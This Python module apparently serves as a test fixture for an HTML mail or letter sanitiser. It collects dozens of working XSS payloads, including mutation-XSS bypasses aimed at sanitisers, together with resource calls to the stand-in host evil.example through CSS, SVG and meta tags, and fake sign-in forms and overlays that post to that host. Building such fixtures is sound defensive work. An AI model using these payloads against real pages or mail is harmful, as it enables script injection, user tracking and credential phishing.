"""What letters carry to run, to phone home, to pose as the desk or to lead away.

Each line is one trick. CANARY runs where a script runs; everything else asks a foreign host. Shapes
from the HTML and CSS standards, OWASP's filter evasion list, mXSS reports against sanitisers
(DOMPurify's tests name the mutations) and what trackers and phishers send.
"""

from __future__ import annotations

CANARY = "top.ran=1;parent.ran=1;ran=1;new Image().src='https://evil.example/ran'"

SCRIPTS = (
    f"<script>{CANARY}</script>",
    f'<img src=x onerror="{CANARY}">',
    f'<body onload="{CANARY}" onpageshow="{CANARY}">',
    f'<input autofocus onfocus="{CANARY}"><select autofocus onfocus="{CANARY}"></select>',
    f'<details open ontoggle="{CANARY}">x</details>',
    f'<video src=x onerror="{CANARY}"></video><audio src=x onerror="{CANARY}"></audio>',
    f'<div style="animation:x 1s" onanimationstart="{CANARY}">x</div>',
    f'<svg onload="{CANARY}"><animate onbegin="{CANARY}" attributeName=x dur=1s /></svg>',
    f"<svg><script>{CANARY}</script></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{CANARY}</script>'></iframe></foreignObject>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={CANARY}>#x"></use></svg>',
    f'<iframe srcdoc="<script>{CANARY}</script>"></iframe>',
    f'<iframe src="javascript:{CANARY}"></iframe>',
    f'<object data="data:text/html,<script>{CANARY}</script>"></object>',
    f'<embed src="data:text/html,<script>{CANARY}</script>">',
    f'<meta http-equiv=refresh content="0;url=javascript:{CANARY}">',
    f'<form action="javascript:{CANARY}"><input type=submit autofocus></form>',
    # Mutations: harmless where they are parsed first, markup where they are parsed again.
    f"<math><mtext><table><mglyph><style><!--</style>"
    f"<img title=\"--&gt;&lt;img src=x onerror='{CANARY}'&gt;\">",
    f'<noscript><p title="</noscript><img src=x onerror={CANARY}>"></noscript>',
    f'<svg><style><img title="</style><img src=x onerror={CANARY}>"></style></svg>',
    f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    f'<img onerror={CANARY} src=x>">',
    f'<textarea><img title="</textarea><img src=x onerror={CANARY}>"></textarea>',
    f'<xmp><p title="</xmp><img src=x onerror={CANARY}>"></xmp>',
    f"<template><img src=x onerror={CANARY}></template>",
    f"<scr\0ipt>{CANARY}</scr\0ipt>",
    f'<img src="x" alt="`><img src=x onerror={CANARY}>`">',
)
CALLS = (
    "<img src=https://evil.example/pixel.gif width=1 height=1>",
    "<img src=//evil.example/pixel.gif>",
    '<img srcset="https://evil.example/1x 1x, https://evil.example/2x 2x">',
    "<picture><source srcset=https://evil.example/webp><img src=cid:none></picture>",
    "<input type=image src=https://evil.example/button>",
    "<video poster=https://evil.example/poster src=https://evil.example/film autoplay></video>",
    "<audio src=https://evil.example/sound autoplay></audio><track src=https://evil.example/t>",
    "<body background=https://evil.example/body>",
    "<table background=https://evil.example/table><tr><td background=https://evil.example/td>x",
    "<link rel=stylesheet href=https://evil.example/sheet.css>",
    "<link rel=prefetch href=https://evil.example/p><link rel=preload as=image "
    "href=https://evil.example/q><link rel=dns-prefetch href=//dns.evil.example>"
    "<link rel=preconnect href=https://evil.example><link rel=icon href=https://evil.example/i>",
    "<style>@import url(https://evil.example/import.css);</style>",
    "<style>@font-face{font-family:f;src:url(https://evil.example/font)}*{font-family:f}</style>",
    "<style>p{background:url(https://evil.example/bg)}</style><p>x",
    '<p style="background-image:url(https://evil.example/inline)">x',
    "<p style=\"background:u\\72l('https://evil.example/escaped')\">x",
    '<ul style="list-style-image:url(https://evil.example/list)"><li>x</ul>',
    '<p style="content:url(https://evil.example/content);cursor:url(https://evil.example/c),auto">x',
    '<p style="--x:url(https://evil.example/var);background:var(--x)">x',
    "<p style=\"background:image-set('https://evil.example/set' 1x)\">x",
    "<svg><image href=https://evil.example/svg xlink:href=https://evil.example/xlink /></svg>",
    "<svg><use href=https://evil.example/use#x /><filter><feImage href=https://evil.example/fe />",
    "<iframe src=https://evil.example/frame></iframe><frameset><frame src=https://evil.example/f>",
    "<object data=https://evil.example/object></object><embed src=https://evil.example/embed>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/refresh'>",
    "<base href=https://evil.example/><img src=based.gif>",
    "<a href=https://evil.example/x ping=https://evil.example/ping target=_top>x</a>",
    "<bgsound src=https://evil.example/bg><img dynsrc=https://evil.example/d lowsrc="
    "https://evil.example/l><isindex action=https://evil.example/i type=image src=x>",
    "<script src=https://evil.example/s.js></script>",
)
POSES = (
    "<form action=https://evil.example/login method=post id=f><input name=password autofocus>"
    "</form><button form=f formaction=https://evil.example/b>Sign in</button>",
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in again</div>',
    '<a href=https://evil.example/top target=_top style="position:absolute;inset:0">x</a>',
    '<a href="javascript:top.ran=1" target=_self>click</a>',
)


def letter_html() -> str:
    """All of them in one letter."""
    tricks = "\n".join(f"<div>{trick}</div>" for trick in (*SCRIPTS, *CALLS, *POSES))
    return f"<html><body><p>Words before.</p>{tricks}</body></html>"
